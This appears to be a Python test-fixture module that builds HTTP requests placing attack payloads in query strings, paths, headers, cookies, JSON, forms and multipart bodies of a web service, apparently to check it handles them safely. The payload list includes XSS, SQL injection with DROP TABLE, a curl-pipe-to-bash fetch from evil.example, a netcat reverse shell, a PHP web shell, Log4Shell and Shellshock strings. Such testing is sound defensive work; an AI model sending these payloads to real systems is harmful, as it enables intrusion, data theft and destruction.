"""Attacks in every part of a request except the text of a message, from payloads of scanners."""

from collections.abc import Iterator
from typing import Any, NamedTuple
from urllib.parse import quote

PAYLOADS = {
    "script": "<script>alert(document.cookie)</script>",
    "handler": '"><img src=x onerror=alert(1)>',
    "svg": "<svg/onload=alert(1)>",
    "tautology": "' OR '1'='1' -- x",
    "union": "1 UNION SELECT username, password FROM users--",
    "stacked": "1'; DROP TABLE records; --",
    "sleep": "1' AND SLEEP(5) AND '1'='1",
    "passwd": "; cat /etc/passwd",
    "subshell": "$(curl -s http://evil.example/x.sh | bash)",
    "netcat": "| nc -e /bin/sh 192.0.2.1 4444",
    "traversal": "../../../../etc/passwd",
    "wrapper": "php://filter/convert.base64-encode/resource=index.php",
    "php": "<?php system($_GET['c']); ?>",
    "jndi": "${jndi:ldap://evil.example/a}",
    "java": "java.lang.Runtime.getRuntime().exec('id')",
    "node": "require('child_process').exec('id')",
    "shellshock": "() { :; }; /bin/bash -c id",
    "inclusion": "http://192.0.2.1/shell.php?",
}
JSON, FORM, TEXT = "application/json", "application/x-www-form-urlencoded", "text/plain"


class Attack(NamedTuple):
    """A request: its name, and the arguments of httpx to send it."""

    name: str
    method: str
    address: str
    options: dict[str, Any]


def multipart(*parts: tuple[str, str]) -> dict[str, Any]:
    """Return a multipart/form-data body of these headers and values."""
    body = "".join(f"--b\r\nContent-Disposition: form-data; {head}\r\n\r\n{value}\r\n" for head, value in parts)
    return {"content": f"{body}--b--\r\n".encode(), "headers": {"content-type": "multipart/form-data; boundary=b"}}


def typed(content_type: str | None, body: str) -> dict[str, Any]:
    """Return a body of this content type, or of none."""
    return {"content": body.encode(), "headers": {"content-type": content_type} if content_type else {}}


def places(evil: str) -> Iterator[tuple[str, str, str, dict[str, Any]]]:
    """Yield requests with `evil` in each possible place."""
    value = quote(evil, safe="")
    yield "query", "GET", f"/?q={value}", {}
    yield "query of a message", "GET", f"/msg/6f9619ff-8b86-4d11-b42d-00c04fc964ff?q={value}", {}
    yield "name in the query", "GET", f"/?{value}=1", {}
    yield "query called json.message", "POST", f"/?json.message={value}", {"json": {"message": "x"}}
    yield "query called message, form", "POST", f"/?message={value}", {"data": {"message": "x"}}
    yield "query of a text", "POST", f"/?reads={value}", typed(TEXT, "x")
    yield "query called message, text", "POST", f"/?message={value}", typed(TEXT, "x")
    yield "path", "GET", f"/msg/{value}", {}
    yield "name of a PUT", "PUT", f"/{value}", {"content": b"x"}
    yield "query of a PUT", "PUT", f"/x?reads={value}", {"content": b"x"}
    yield "another query of a PUT", "PUT", f"/x?q={value}", {"content": b"x"}
    yield "PUT to no address", "PUT", "/x/y", {"content": evil.encode()}
    yield "JSON sent with PUT", "PUT", "/x", {"json": {"message": {"x": evil}}}
    yield "form sent with PUT", "PUT", "/x", {"data": {"note": evil}}
    yield "form without names at another address", "POST", "/msg/x", typed(FORM, evil)
    yield "user agent", "GET", "/", {"headers": {"user-agent": evil}}
    yield "cookie", "GET", "/", {"headers": {"cookie": f"a={evil.replace(';', '%3B')}"}}
    if evil != PAYLOADS["inclusion"]:  # a Referer may well be the address of a numeric host
        yield "referer", "GET", "/", {"headers": {"referer": evil}}
    yield "field in JSON", "POST", "/", {"json": {"message": "x", "expires_at": evil}}
    yield "unknown field in JSON", "POST", "/", {"json": {"message": "x", "note": evil}}
    yield "name in JSON", "POST", "/", {"json": {"message": "x", evil: 1}}
    yield "below message", "POST", "/", {"json": {"message": {"x": evil}}}
    yield "in a list", "POST", "/", {"json": [{"message": evil}]}
    yield "a field twice", "POST", "/", typed(JSON, '{"message":"x","ttl":60,"ttl":' + repr_json(evil) + "}")
    yield "field called json.message in JSON", "POST", "/", {"json": {"json.message": evil}}
    yield "field in a form", "POST", "/", {"data": {"message": "x", "expires_at": evil}}
    yield "field called json.message in a form", "POST", "/", {"data": {"json.message": evil}}
    yield "field called message[0]", "POST", "/", {"data": {"message[0]": evil}}
    yield "field called message.x", "POST", "/", {"data": {"message.x": evil}}
    yield "name in a form", "POST", "/", {"data": {"message": "x", evil: "1"}}
    yield "field in multipart", "POST", "/", multipart(('name="message"', "x"), ('name="ttl"', evil))
    yield "json.message in multipart", "POST", "/", multipart(('name="json.message"', evil))
    yield "file for another field", "POST", "/", multipart(('name="message"', "x"), ('name="ttl"; filename="a"', evil))
    yield "name of a file", "POST", "/", multipart((f'name="message"; filename="{evil.replace(chr(34), "")}"', "x"))
    yield "JSON without a content type", "POST", "/", typed(None, '{"message":' + repr_json(evil) + "}")
    yield "another content type", "POST", "/", typed("application/octet-stream", evil)
    yield "XML", "POST", "/", typed("application/xml", f"<a><![CDATA[{evil}]]></a>")
    yield "JSON at another address", "POST", "/docs", {"json": {"message": evil}}
    yield "form at another address", "POST", "/msg/x", {"data": {"message": evil}}
    yield "text at another address", "POST", "/docs", typed(TEXT, evil)
    yield "JSON by another method", "PUT", "/", {"json": {"message": evil}}


def repr_json(text: str) -> str:
    """Return `text` as a JSON string."""
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'


def attacks(payloads: dict[str, str] = PAYLOADS) -> list[Attack]:
    """Return every payload in every place."""
    return [
        Attack(f"{payload} in {name}", method, address, options)
        for payload, evil in payloads.items()
        for name, method, address, options in places(evil)
    ]
